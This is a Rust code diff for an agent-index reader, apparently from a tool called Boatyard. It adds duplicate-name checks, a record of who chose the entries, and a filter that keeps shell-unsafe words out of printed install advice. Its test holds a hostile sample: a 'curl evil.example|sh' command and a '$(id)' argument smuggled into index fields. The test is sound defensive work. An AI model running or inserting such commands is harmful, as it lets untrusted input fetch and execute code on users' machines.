@@ -19,6 +19,18 @@ pub(super) struct Read {
     pub(super) entries: Vec<Named>,
     /// Left out, for they come as an archive only.
     pub(super) left_out: Vec<AgentName>,
+    /// Whose choice the entries are.
+    pub(super) chosen_by: ChosenBy,
+}
+
+/// Who chose what is added.
+#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
+pub(super) enum ChosenBy {
+    /// The person, by name or by a file of one's own.
+    #[default]
+    Person,
+    /// Whoever made the index: nobody looked at each of its names.
+    Index,
 }
 
 /// The entries of all agents, or of those that are named.
@@ -31,7 +43,7 @@ pub(super) fn entries(document: &Value, names: &[AgentName]) -> Result<Read> {
         None => vec![document],
     };
     let is_index = document["agents"].is_array();
-    let mut found = Vec::new();
+    let mut found: Vec<Named> = Vec::new();
     let mut binaries = Vec::new();
     for agent in agents {
         let id = text(agent, "id").ok_or_else(|| Failure::usage("an agent of it has no `id`"))?;
@@ -45,6 +57,9 @@ pub(super) fn entries(document: &Value, names: &[AgentName]) -> Result<Read> {
             _ => name,
         };
         match entry(&name, agent) {
+            Ok(_) if found.iter().any(|(there, _)| *there == name) => {
+                return Err(Failure::usage(format!("two of its agents are called {name}")).into());
+            }
             Ok(entry) => found.push((name, entry)),
             // In an index of many, those are left out that nobody named.
             Err(error) if is_index && names.is_empty() => binaries.push((name, error)),
@@ -60,7 +75,8 @@ pub(super) fn entries(document: &Value, names: &[AgentName]) -> Result<Read> {
         }
     }
     let left_out = binaries.into_iter().map(|(name, _)| name).collect();
-    Ok(Read { entries: found, left_out })
+    let chosen_by = if is_index && names.is_empty() { ChosenBy::Index } else { ChosenBy::Person };
+    Ok(Read { entries: found, left_out, chosen_by })
 }
 
 fn name_of(id: &str) -> Result<AgentName> {
@@ -85,6 +101,8 @@ fn entry(name: &AgentName, agent: &Value) -> Result<Map<String, Value>, Failure>
             let command =
                 bin.filter_map(|(_, one)| text(one, "cmd")).next().unwrap_or(name.as_str());
             let program = command.trim_start_matches("./");
+            // The advice below is for a shell, and the file may be anybody's.
+            let program = if is_plain(program) { program } else { name.as_str() };
             return Err(Failure::new(format!(
                 "{name} comes as an archive only, which Boatyard does not install"
             ))
@@ -174,8 +192,13 @@ fn pinned(from: &str, package: &str, version: Option<&str>) -> Option<(String, S
 fn with_arguments(program: &str, distribution: &Value) -> String {
     let first = distribution["binary"].as_object().and_then(|all| all.values().next());
     let arguments = first.and_then(|one| one["args"].as_array()).into_iter().flatten();
-    let arguments = arguments.filter_map(Value::as_str);
+    let arguments = arguments.filter_map(Value::as_str).filter(|text| is_plain(text));
     std::iter::once(program).chain(arguments).collect::<Vec<_>>().join(" ")
+}
+
+/// Whether a shell takes a word for nothing but itself.
+fn is_plain(word: &str) -> bool {
+    word.chars().all(|c| c.is_ascii_alphanumeric() || "._-/=:@,+".contains(c))
 }
 
 fn text<'a>(value: &'a Value, key: &str) -> Option<&'a str> {
@@ -216,6 +239,25 @@ mod tests {
         assert_eq!((&some["title"], &some["env"]["A"]), (&json!("Some CLI"), &json!("1")));
         assert_eq!(all["snake"]["install"]["packages"], json!(["snake-agent@0.4.0"]));
         assert_eq!(all["snake"]["env"]["PYTHONPATH"], "{package}");
+    }
+
+    #[test]
+    fn a_hostile_index_gives_no_command_for_a_shell_and_no_name_twice() {
+        let evil = json!({ "agents": [{ "id": "iron", "version": "1.0.0", "distribution": {
+            "binary": { "linux-x86_64": { "cmd": "./iron; curl evil.example|sh",
+                "args": ["acp", "$(id)", "\u{1b}[2J"] } } } }] });
+        let error = format!("{:#?}", entries(&evil, &names(&["iron"])).unwrap_err());
+        assert!(error.contains("iron acp"), "{error}");
+        assert!(!error.contains("curl") && !error.contains("$("), "{error}");
+        let one = |id: &str| {
+            json!({ "id": id, "version": "1.0.0",
+                "distribution": { "npx": { "package": "x@1.0.0" } } })
+        };
+        let twice = json!({ "agents": [one("a.b"), one("a-b")] });
+        assert!(entries(&twice, &[]).unwrap_err().to_string().contains("two of its agents"));
+        let index = json!({ "agents": [one("claude")] });
+        assert_eq!(entries(&index, &[]).unwrap().chosen_by, ChosenBy::Index);
+        assert_eq!(entries(&index, &names(&["claude"])).unwrap().chosen_by, ChosenBy::Person);
     }
 
     #[test]
